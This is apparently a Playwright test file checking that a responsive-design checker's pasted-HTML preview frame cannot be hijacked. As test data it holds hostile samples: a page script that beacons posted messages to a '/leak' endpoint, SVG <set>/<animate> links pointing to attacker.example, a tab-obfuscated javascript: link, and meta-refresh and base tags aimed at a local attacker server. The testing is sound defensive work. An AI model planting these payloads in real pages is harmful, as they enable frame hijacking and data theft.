import { createServer, type Server } from 'node:http';
import { deflateRawSync } from 'node:zlib';
import type { Frame, Page } from '@playwright/test';
import { expect, previewFrame, test } from './fixtures';

/**
 * The responsive checker's pasted-HTML preview against a page that tries to take its frame over (issue 23,
 * item 1): nothing in the frame navigates it, and renders reach only the document the app wrote. The
 * "attacker" is a second loopback server, so that a navigation to it would be seen (it logs every request)
 * rather than only blocked; an https: target is blocked and reported by the offline guard.
 */
const ATTACKER_PORT = Number(process.env.E2E_PORT ?? 4173) + 2222;
const ATTACKER = `http://127.0.0.1:${ATTACKER_PORT}`;
/**
 * A page that does what a site the frame navigated to could do: say it is ready, as the preview's own script
 * once did, and send home whatever it is posted.
 */
const ATTACKER_PAGE = `<!doctype html><html><body><p id="attacker">Attacker</p><script>
  const send = (data) => navigator.sendBeacon('/leak', JSON.stringify(data));
  addEventListener('message', (event) => {
    send(event.data);
    for (const port of event.ports) port.onmessage = (message) => send(message.data);
  });
  parent.postMessage({ type: 'ready' }, '*');
</script></body></html>`;

const TITLE = 'iPhone 15 preview';

test.describe.configure({ mode: 'serial' });

let server: Server;
/** Every path the attacker's server was asked for, and every body its page sent home. */
const requests: string[] = [];
const leaks: string[] = [];

test.beforeAll(async () => {
  server = createServer((request, response) => {
    requests.push(request.url ?? '');
    if (request.url === '/leak') {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        leaks.push(body);
        response.writeHead(204).end();
      });
      return;
    }
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(ATTACKER_PAGE);
  });
  await new Promise<void>((resolve) => server.listen(ATTACKER_PORT, '127.0.0.1', resolve));
});

test.afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

test.beforeEach(() => {
  requests.length = 0;
  leaks.length = 0;
});

// Navigations to the attacker are let through to its server, which tells whether any happened.
test.use({ allowedOrigins: [ATTACKER] });

/** A share link of the responsive checker with `input` as its pasted HTML, as the app's Share button makes one. */
function shareLink(input: string): string {
  const json = JSON.stringify({ tool: 'responsive-design-checker', state: { source: 'html', input } });
  return `/responsive-design-checker#share=1.${deflateRawSync(Buffer.from(json)).toString('base64url')}`;
}

/** The preview frame's Frame, for what a locator cannot do (its URL, a navigation forced from inside). */
async function frameOf(page: Page, title: string): Promise<Frame> {
  const frame = await page.locator(`iframe[title="${title}"]`).elementHandle();
  return (await frame!.contentFrame())!;
}

/** Marks the preview's iframe element, so that a test can tell whether the app replaced it. */
async function markFrame(page: Page, title: string) {
  await page.locator(`iframe[title="${title}"]`).evaluate((frame) => frame.setAttribute('data-test-mark', 'first'));
}

/**
 * Renders `html` after `marker` and waits until the frame shows it: a round trip through the app and the frame
 * that comes after anything the steps before it started (a navigation's request is made before that).
 */
async function renderAgain(page: Page, html: string) {
  await page.getByLabel('HTML', { exact: true }).fill(`${html}<p id="again">again</p>`);
  await expect(previewFrame(page, TITLE).locator('#again')).toHaveText('again');
}

/** The frame is still the document the app wrote, in the iframe element it created, and no request left for the attacker. */
async function expectNotNavigated(page: Page, navigations: string[]) {
  expect((await frameOf(page, TITLE)).url()).toBe('about:srcdoc');
  await expect(page.locator(`iframe[title="${TITLE}"]`)).toHaveAttribute('data-test-mark', 'first');
  expect(navigations.filter((url) => url !== 'about:srcdoc')).toEqual([]);
  expect(requests).toEqual([]);
}

/** The URLs every frame but the app's own page navigated to, from now on. */
function watchNavigations(page: Page): string[] {
  const urls: string[] = [];
  page.on('framenavigated', (frame) => {
    if (frame !== page.mainFrame()) urls.push(frame.url());
  });
  return urls;
}

test('a share link whose SVG link gets its address from <set> or <animate> navigates nowhere, by click or Enter', async ({
  page,
}) => {
  const attack =
    '<svg width="300" height="300"><a id="set-link"><set attributeName="href" to="https://attacker.example/"/>' +
    '<rect width="300" height="140" fill="red"/></a><a id="animated-link" transform="translate(0 150)">' +
    '<animate attributeName="href" values="https://attacker.example/" dur="1s" fill="freeze"/>' +
    '<rect width="300" height="140" fill="blue"/></a></svg>';
  const link = shareLink(attack);
  // The link was 382 characters long; this one, with two links, is about as short.
  expect(link.length).toBeLessThan(400);
  const navigations = watchNavigations(page);
  await page.goto(link);
  const frame = previewFrame(page, TITLE);
  await expect(frame.locator('#set-link rect')).toBeVisible();
  await expect(page.getByRole('region', { name: 'Left out of the preview' })).toContainText(
    '2 SVG animations (<set>, <animate> and the like can change where a link goes)',
  );
  expect(await frame.locator('set, animate').count()).toBe(0);
  await markFrame(page, TITLE);

  await frame.locator('#set-link rect').click();
  await frame.locator('#animated-link rect').click();
  await frame.locator('#set-link').focus();
  await frame.locator('#set-link').press('Enter');

  await renderAgain(page, attack);
  await expectNotNavigated(page, navigations);
});

test('no link, area, SVG or MathML address, <use>, form, refresh or base navigates the frame, by mouse or keyboard', async ({
  page,
}) => {
  const image = `data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"/>')}`;
  const html = [
    `<p><a id="html-link" href="${ATTACKER}/html-link">HTML link</a></p>`,
    `<p><img id="map-image" usemap="#m" src="${image}" width="200" height="40" alt="Image map">`,
    `<map name="m"><area shape="rect" coords="0,0,200,40" href="${ATTACKER}/area" alt="Area"></map></p>`,
    '<svg width="300" height="200">',
    `<a id="svg-link" href="${ATTACKER}/svg-link"><rect width="90" height="40" fill="red"/></a>`,
    `<a id="xlink-link" xlink:href="${ATTACKER}/xlink"><rect x="100" width="90" height="40" fill="green"/></a>`,
    `<defs><a id="used-link" href="${ATTACKER}/use"><rect width="90" height="40" fill="blue"/></a></defs>`,
    '<use id="use" href="#used-link" y="60"/>',
    '</svg>',
    `<math><mi id="math" href="${ATTACKER}/math">x</mi></math>`,
    `<form><input id="field" name="q"><button id="submit">Send</button><input id="image-submit" type="image" src="${image}" alt="Go"></form>`,
    '<p><a id="tab-link" href="java&#x09;script:document.body.textContent=\'ran\'">Tab link</a></p>',
    // Would navigate by themselves, or send relative links to the attacker.
    `<meta http-equiv="refresh" content="0; url=${ATTACKER}/refresh"><base href="${ATTACKER}/">`,
    '<p><a id="relative-link" href="relative">Relative link</a></p>',
  ].join('');
  const navigations = watchNavigations(page);
  await page.goto('/responsive-design-checker');
  await page.getByLabel('HTML', { exact: true }).fill(html);
  const frame = previewFrame(page, TITLE);
  await expect(frame.locator('#html-link')).toBeVisible();
  await markFrame(page, TITLE);

  await frame.locator('#html-link').click();
  await frame.locator('#html-link').click({ button: 'middle' });
  await frame.locator('#html-link').press('Enter');
  await frame.locator('#map-image').click();
  await frame.locator('area').focus();
  await frame.locator('area').press('Enter');
  await frame.locator('#svg-link rect').click();
  await frame.locator('#svg-link').press('Enter');
  await frame.locator('#xlink-link rect').click();
  await frame.locator('#use').click({ position: { x: 10, y: 10 } });
  await frame.locator('#math').click();
  await frame.locator('#submit').click();
  await frame.locator('#field').fill('typed');
  await frame.locator('#field').press('Enter');
  await frame.locator('#image-submit').click();
  await frame.locator('#tab-link').click();
  await frame.locator('#relative-link').click();
  expect(await frame.locator('meta[http-equiv], base').count()).toBe(0);

  // The javascript: link, hidden by a tab, has no address left, and the screen says one was left out.
  await expect(frame.locator('#tab-link')).not.toHaveAttribute('href', /./);
  await expect(page.getByRole('region', { name: 'Left out of the preview' })).toContainText('1 event handler');
  await renderAgain(page, html);
  await expectNotNavigated(page, navigations);
  await expect(frame.locator('body')).not.toHaveText('ran');
});

test('a frame that loads another document is replaced, and that document is sent nothing', async ({ page }) => {
  const attached: Frame[] = [];
  page.on('frameattached', (frame) => attached.push(frame));
  await page.goto('/responsive-design-checker');
  await page.getByLabel('HTML', { exact: true }).fill('<p id="first">First draft</p>');
  await expect(previewFrame(page, TITLE).locator('#first')).toHaveText('First draft');
  await markFrame(page, TITLE);
  // Its own document's load is not taken for a second one.
  expect(attached).toHaveLength(1);

  // However it happened (nothing in the preview can do it), the frame now holds another site's page, which
  // says it is ready, as the preview's own script would, and listens for anything posted to it.
  const frame = await frameOf(page, TITLE);
  await frame.evaluate((url) => {
    location.href = url;
  }, `${ATTACKER}/page`);
  await expect.poll(() => requests).toContain('/page');

  // The app writes a new frame in its place, and what the user types next goes there, and only there.
  await page.getByLabel('HTML', { exact: true }).fill('<p id="second">A secret second draft</p>');
  await page.getByLabel('CSS', { exact: true }).fill('p { color: rgb(1, 2, 3) }');
  const preview = previewFrame(page, TITLE);
  await expect(preview.locator('#second')).toHaveText('A secret second draft');
  await expect(preview.locator('#second')).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect(page.locator(`iframe[title="${TITLE}"]`)).not.toHaveAttribute('data-test-mark', /./);
  expect(attached).toHaveLength(2);
  expect((await frameOf(page, TITLE)).url()).toBe('about:srcdoc');
  expect(requests).toEqual(['/page']);
  expect(leaks).toEqual([]);
});
